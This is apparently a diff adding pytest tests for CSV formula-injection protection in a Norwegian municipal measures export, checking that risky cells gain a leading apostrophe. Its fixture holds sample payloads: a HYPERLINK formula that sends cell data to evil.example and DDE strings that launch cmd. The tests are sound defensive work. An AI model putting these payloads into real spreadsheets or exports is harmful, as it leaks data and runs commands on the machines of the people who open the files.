@@ -12,7 +12,7 @@ import pytest
 from drivkraft.core.revision import content_changed
 from measures.models import Measure
 from measures.status import Status
-from measures.views import EXPORT_FIELDS
+from measures.views import EXPORT_FIELDS, spreadsheet_safe
 from tests.conftest import (
     ARCHIVED_SLUG,
     DRAFT_SLUG,
@@ -210,3 +210,96 @@ def test_export_is_not_paginated(client, portal):
     _header, rows = csv_rows(client.get("/data/tiltak.csv?side=2"))
     assert len(rows) == 27
     assert json_data(client.get("/data/tiltak.json?side=2"))["antall"] == 27
+
+
+# --- Formula injection (OWASP «CSV Injection») --------------------------------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"Klikk")',
+    "goal": "+1+cmd|' /C calc'!A0",
+    "area": "-2+3",
+    "person": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "organisation": "\t=1+1",
+    "municipality": "\r=1+1",
+}
+
+
+@pytest.fixture
+def formulas(portal):
+    measure = portal.measure
+    Measure.objects.filter(pk=measure.pk).update(title=FORMULAS["title"])
+    measure.goal.title = FORMULAS["goal"]
+    measure.goal.save()
+    measure.focus_area.name = FORMULAS["area"]
+    measure.focus_area.save()
+    portal.responsible.name = FORMULAS["person"]
+    portal.responsible.save()
+    portal.responsible.organisation.name = FORMULAS["organisation"]
+    portal.responsible.organisation.save()
+    portal.harstad.name = FORMULAS["municipality"]
+    portal.harstad.save()
+    content_changed()
+    return FORMULAS
+
+
+def test_csv_text_cells_that_a_spreadsheet_would_evaluate_begin_with_a_quote(client, formulas):
+    response = client.get("/data/tiltak.csv")
+    assert response.status_code == 200
+    # Read as a spreadsheet reads it: a carriage return inside a quoted cell is part of the cell.
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+
+    row = next(r for r in rows if r["slug"] == MEASURE_SLUG)
+    assert row["tittel"] == "'" + formulas["title"]
+    assert row["mal"] == "'" + formulas["goal"]
+    assert row["satsingsomrade"] == "'" + formulas["area"]
+    assert row["ansvarlig"] == "'" + formulas["person"]
+    assert row["ansvarlig_organisasjon"] == "'" + formulas["organisation"]
+    assert row["kommuner"].startswith("'" + formulas["municipality"])
+    # No cell of any row begins a formula; numbers and ordinary text are as they were.
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    assert [v for r in rows for v in r.values() if v.startswith(starts)] == []
+    assert row["framdrift"] == "40"
+    assert row["slug"] == MEASURE_SLUG
+    other = next(r for r in rows if r["slug"] == OTHER_MEASURE_SLUG)
+    assert other["tittel"] == "Besøksstrategi"
+
+
+def test_json_keeps_the_exact_values(client, formulas):
+    data = json_data(client.get("/data/tiltak.json"))
+
+    row = next(r for r in data["tiltak"] if r["slug"] == MEASURE_SLUG)
+    assert row["tittel"] == formulas["title"]
+    assert row["mal"] == formulas["goal"]
+    assert row["ansvarlig"] == formulas["person"]
+    assert formulas["municipality"] in row["kommuner"]
+    assert row["framdrift"] == 40
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+47 123", "'+47 123"),
+        ("-5", "'-5"),
+        ("@navn", "'@navn"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Vanlig tekst = grei", "Vanlig tekst = grei"),
+        ("", ""),
+        (-5, -5),  # a number is no text cell
+        (40, 40),
+    ],
+)
+def test_spreadsheet_safe(value, cell):
+    assert spreadsheet_safe(value) == cell
+
+
+@pytest.mark.parametrize("prefix", ["", "/en"])
+def test_the_data_page_says_how_csv_cells_are_written(client, portal, prefix):
+    body = client.get(f"{prefix}/data/").content.decode()
+
+    expected = {
+        "": "en apostrof (') foran",
+        "/en": "gets an apostrophe (') in front",
+    }[prefix]
+    assert expected in body
